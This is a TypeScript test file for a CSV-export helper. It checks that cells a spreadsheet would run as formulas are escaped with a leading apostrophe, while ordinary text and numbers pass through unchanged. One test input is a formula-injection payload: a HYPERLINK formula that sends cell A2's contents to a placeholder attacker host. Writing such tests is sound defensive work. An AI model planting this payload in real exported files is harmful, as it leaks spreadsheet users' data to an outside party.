import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { spreadsheetText, toCsv } from './csv.ts';

test('text that a spreadsheet would run as a formula is kept as text', () => {
  for (const text of [
    '=HYPERLINK("http://attacker.invalid/?x="&A2,"Open record")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '-',
    '- dropped out',
  ]) {
    assert.equal(spreadsheetText(text), `'${text}`, JSON.stringify(text));
  }
  for (const text of ['Alex Smith', '', '12.50', '-12.50', '-3', "O'Neill", ' =1'])
    assert.equal(spreadsheetText(text), text, JSON.stringify(text));
});

test('every text cell of a CSV is made safe, the header and numbers are written as they are', () => {
  const csv = toCsv([
    { person: '=1+1', note: 'a, "quoted" note', weekly_price: '-12.50', hours: -1.5 },
    { person: 'Alex', note: '@handle', weekly_price: '1450.00', hours: 3 },
  ]);
  assert.deepEqual(parse(csv), [
    ['person', 'note', 'weekly_price', 'hours'],
    ["'=1+1", 'a, "quoted" note', '-12.50', '-1.5'],
    ['Alex', "'@handle", '1450.00', '3'],
  ]);
});
